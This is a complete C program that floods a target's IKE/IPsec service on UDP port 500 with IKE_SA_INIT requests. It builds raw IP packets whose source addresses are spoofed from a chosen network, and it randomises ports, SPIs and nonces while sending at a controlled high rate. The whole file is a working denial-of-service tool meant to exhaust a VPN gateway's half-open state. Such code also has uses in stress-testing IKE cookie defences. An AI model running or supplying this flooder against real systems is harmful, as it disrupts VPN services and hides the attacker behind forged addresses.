/* Sends IKE_SA_INIT requests from spoofed addresses: flood SOURCE-NETWORK BITS DESTINATION RATE SECONDS < REQUEST
 *
 * Every datagram has another source address, port, SPI and nonce (the last NONCE octets of the request). Prints how many
 * were sent and in how many seconds. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define MOST 2048
#define NONCE 16

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return time.tv_sec + time.tv_nsec / 1e9;
}

static uint64_t next_random(void)
{
	static uint64_t state = 0x9e3779b97f4a7c15;

	state ^= state << 13;
	state ^= state >> 7;
	state ^= state << 17;
	return state;
}

int main(int argc, char **argv)
{
	static unsigned char request[MOST], datagrams[BATCH][sizeof(struct iphdr) + sizeof(struct udphdr) + MOST];
	struct mmsghdr messages[BATCH];
	struct iovec vectors[BATCH];
	struct sockaddr_in to = {.sin_family = AF_INET};
	const size_t front = sizeof(struct iphdr) + sizeof(struct udphdr);
	uint32_t network, bits;
	double rate, seconds, begin;
	long sent = 0;
	size_t length;
	int fd;

	if (argc != 6)
		return 2;
	network = ntohl(inet_addr(argv[1]));
	bits = atoi(argv[2]);
	to.sin_addr.s_addr = inet_addr(argv[3]);
	rate = atof(argv[4]);
	seconds = atof(argv[5]);
	length = fread(request, 1, sizeof(request), stdin);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || length < 28 + NONCE) {
		perror("flood");
		return 1;
	}
	memset(messages, 0, sizeof(messages));
	for (int i = 0; i < BATCH; i++) {
		vectors[i] = (struct iovec){datagrams[i], front + length};
		messages[i].msg_hdr = (struct msghdr){
			.msg_name = &to, .msg_namelen = sizeof(to), .msg_iov = &vectors[i], .msg_iovlen = 1};
	}
	begin = now();
	while (now() - begin < seconds) {
		if (sent > (now() - begin) * rate) {
			usleep(200);
			continue;
		}
		for (int i = 0; i < BATCH; i++) {
			struct iphdr *ip = (struct iphdr *)datagrams[i];
			struct udphdr *udp = (struct udphdr *)(ip + 1);
			unsigned char *message = datagrams[i] + front;
			uint64_t random = next_random(), nonce = next_random();

			*ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
					     .saddr = htonl(network | (random & ((1u << (32 - bits)) - 1))),
					     .daddr = to.sin_addr.s_addr, .tot_len = htons(front + length)};
			*udp = (struct udphdr){.source = htons(1024 + (random >> 40) % 60000), .dest = htons(500),
					       .len = htons(sizeof(*udp) + length)};
			memcpy(message, request, length);
			memcpy(message, &random, 8);
			memcpy(message + length - NONCE, &nonce, 8);
		}
		int done = sendmmsg(fd, messages, BATCH, 0);

		if (done > 0)
			sent += done;
	}
	printf("%ld %f\n", sent, now() - begin);
	return 0;
}
